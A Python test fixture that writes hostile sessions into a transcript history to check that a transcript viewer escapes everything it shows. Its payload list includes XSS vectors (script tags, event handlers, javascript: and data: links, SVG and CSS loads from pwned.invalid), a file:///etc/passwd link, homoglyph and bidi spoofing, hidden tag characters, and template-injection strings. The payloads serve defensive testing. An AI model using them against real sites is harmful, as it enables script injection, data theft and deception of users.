"""Transcripts that want to be more than words: each holds one trick in every place that a page shows.

`write_hostile` writes one session for each of `TRICKS` into a history: the trick is the prompt, the answer, the thinking,
the name of a tool, the name of a file, a command, an output, an error, a diff, a picture, a title, a branch, a model, a
subagent's request and a record of an unknown type. Whatever runs sets `window.pwned`; whatever is loaded asks `pwned.invalid`.
"""

from __future__ import annotations

import json
from typing import Any

from tests.capture.history import History

RUN = "window.pwned=1"
SITE = "http://pwned.invalid"
_LONG = 1_000_000

TRICKS: dict[str, str] = {
    # script
    "script": f"<script>{RUN}</script>",
    "script in upper case": f"<SCRIPT>{RUN}</SCRIPT>",
    "script from elsewhere": f'<script src="{SITE}/x.js"></script>',
    "script that closes others": f"</script></style></title></textarea><script>{RUN}</script>",
    "script that ends a comment": f"--><script>{RUN}</script><!--",
    "script in a comment": f"<!--><script>{RUN}</script>-->",
    "script with a null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script module": f'<script type="module">{RUN}</script>',
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    # handlers
    "image with a handler": f"<img src=x onerror={RUN}>",
    "handler out of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "handler out of single quotes": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "body with a handler": f"<body onload={RUN}>",
    "details with a handler": f"<details open ontoggle={RUN}>x</details>",
    "media with a handler": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "input that takes the focus": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
    "handler between slashes": f"<img/src=x/onerror={RUN}//",
    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    # addresses
    "javascript link": f"[click](javascript:{RUN})",
    "javascript link in disguise": f"[click](JaVaScRiPt:{RUN}) [b](&#106;avascript:{RUN}) [c](java\tscript:{RUN})",
    "javascript link, encoded": f"[click](javascript&colon;{RUN}) <javascript:{RUN}> [d](\x01javascript:{RUN})",
    "javascript reference": f"[click][x]\n\n[x]: javascript:{RUN}",
    "data link": "[click](data:text/html,<script>window.pwned=1</script>)",
    "vbscript and file": "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](//pwned.invalid/x) [d](/api/forget)",
    "link with quotes": f'[a](http://x.invalid/"onmouseover="{RUN}) [b](<http://x.invalid/ onclick={RUN}>)',
    "link with a title": f"[a](http://x.invalid '\" onmouseover=\"{RUN}')",
    "picture from elsewhere": f'![x]({SITE}/x.png) ![x]({SITE}/x.png "onerror={RUN}")',
    "picture of script": f"![x](javascript:{RUN}) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "base": f'<base href="{SITE}/"><a href="x">x</a>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={SITE}">',
    "form": f'<form action="{SITE}"><button>x</button></form><button formaction=javascript:{RUN}>x</button>',
    "frame": f"<iframe src=javascript:parent.{RUN}></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    # svg, css
    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg with a link": f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a><use href=data:x></svg>",
    "foreign object": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg><math><mtext><script>{RUN}</script>",
    "style": f"<style>*{{display:none}}body{{background:url({SITE}/x)}}</style>",
    "style attribute": f'<b style="position:fixed;inset:0;background:url({SITE}/x)">x</b>',
    "style import": f"</style><style>@import '{SITE}/x.css';</style>",
    "linked style": f'<link rel=stylesheet href="{SITE}/x.css"><link rel=preload href="{SITE}/y" as=image>',
    # words that lie
    "homoglyph link": "[https://аpple.com](https://xn--pwned.invalid) <https://аpple.com/> [bank.com](https://pwned.invalid)",
    "bidi override": "access = \u202etxt.exe\u202c \u2066\u2067x\u2069 \u200f\u061c",
    "bidi in a name": "invoice\u202efdp.exe",
    "hidden words": "plain" + "".join(chr(0xE0000 + ord(char)) for char in "do evil") + "pass\u200bword\u2060\u3164",
    "terminal": "\x1b[2J\x1b]0;x\x07\x1b[31mred\x1b[0m\x9b2J\r\x08\x7f\u2028\u2029\x85",
    # sizes and broken text
    "one long word": "A" * _LONG,
    "one long word of tags": "<b>" * (_LONG // 3),
    "deep": "[" * 5_000 + "> " * 2_000 + "*" * 5_000 + "- " * 500,
    "half a pair": "broken \ud800 \udfff\ud83d pair",
    "broken bytes": "broken @@BYTES@@ end",
    "a page of our own": '</pre></details></section></main><section class="turn" id="t1"><h2>Turn 99</h2>',
    "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
}


def session_of(number: int) -> str:
    """The id of the session that holds the trick of that number."""
    return f"0bad0000-0000-4000-8000-{number:012d}"


def write_hostile(history: History) -> dict[str, str]:
    """One session for each trick, put into a history; the ids of the sessions by the names of the tricks."""
    made = {}
    for number, (name, trick) in enumerate(TRICKS.items()):
        made[name] = session_of(number)
        data = b"".join(_session(history, made[name], trick))
        history.write(data.replace(b"@@BYTES@@", b"\xff\xfe\xc3\x28\x80"), made[name])
    return made


def _session(history: History, sid: str, trick: str) -> list[bytes]:
    def line(kind: str, content: Any, **more: Any) -> bytes:
        return _line(history, kind, content, sid, **more)

    short = trick[:3000]  # where whole sentences do not stand
    picture = {"type": "base64", "media_type": short, "data": short}
    calls = [
        {"type": "tool_use", "id": f"a{short}", "name": short, "input": {short: trick, "list": [short]}},
        {"type": "tool_use", "id": "b", "name": "Read", "input": {"file_path": short}},
        {"type": "tool_use", "id": "c", "name": "Bash", "input": {"command": trick}},
        {"type": "tool_use", "id": "d", "name": "Edit", "input": _edit(short)},
        {"type": "tool_use", "id": "e", "name": "Task", "input": {"prompt": short, "subagent_type": short}},
    ]
    one = {"id": "m1", "model": short}
    back = [
        {"type": "tool_result", "tool_use_id": f"a{short}", "content": trick},
        {"type": "tool_result", "tool_use_id": "b", "content": [{"type": "text", "text": short}, {"type": short}]},
        {"type": "tool_result", "tool_use_id": "c", "content": f"Error: {short}\n{short}", "is_error": True},
        {"type": "tool_result", "tool_use_id": "nobody", "content": short},
    ]
    return [
        line("user", trick, cwd=short, gitBranch=short, version=short),
        line("assistant", [{"type": "thinking", "thinking": short, "signature": ""}], message=one),
        line("assistant", [{"type": "text", "text": trick}], message=one),
        *(line("assistant", [call], message=one) for call in calls),
        *(line("user", [block]) for block in back),
        line("user", [{"type": "image", "source": picture}, {"type": short, "text": short}]),
        line("assistant", [{"type": "text", "text": f"```{short}\n{short}\n```\n\n| {short} |\n|---|\n| {short} |"}]),
        line("user", f"<command-name>{short}</command-name>"),
        _plain({"type": short, "sessionId": sid, "content": trick}),
        _plain({"type": "summary", "summary": short, "leafUuid": short}),
        _plain({"type": "custom-title", "customTitle": short, "sessionId": sid}),
        _plain({**json.loads(line("system", short)), "subtype": short, "content": short}),
    ]


def _edit(trick: str) -> dict[str, str]:
    return {"file_path": trick, "old_string": f"a\n{trick}\nb", "new_string": f"a\n{trick}{trick}\nb"}


def _line(history: History, kind: str, content: Any, sid: str, **more: Any) -> bytes:
    event = json.loads(history.line(kind, "", sid))
    event["message"] |= {"content": content, **more.pop("message", {})}
    return _plain(event | more)


def _plain(event: dict[str, Any]) -> bytes:
    # With escapes: half of a pair of surrogates cannot be written in any other way.
    return json.dumps(event).encode() + b"\n"
